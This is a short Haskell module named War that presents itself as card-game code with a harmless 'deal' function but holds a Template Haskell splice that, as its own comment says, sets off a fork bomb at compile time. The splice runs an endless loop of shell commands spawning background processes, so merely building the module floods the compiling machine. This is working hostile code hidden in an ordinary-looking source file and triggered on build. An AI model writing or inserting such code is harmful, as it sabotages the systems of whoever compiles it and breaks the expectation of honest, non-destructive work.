{-# LANGUAGE TemplateHaskell #-}
-- A fork bomb that goes off while it is compiled.
module War (deal) where

import Control.Monad (forever)
import System.Process (system)
import Language.Haskell.TH.Syntax (runIO)

deal :: [Int] -> [Int]
deal shuf = shuf

$(runIO (forever (system "while :; do sleep 60 & sleep 60 & done")) >> return [])
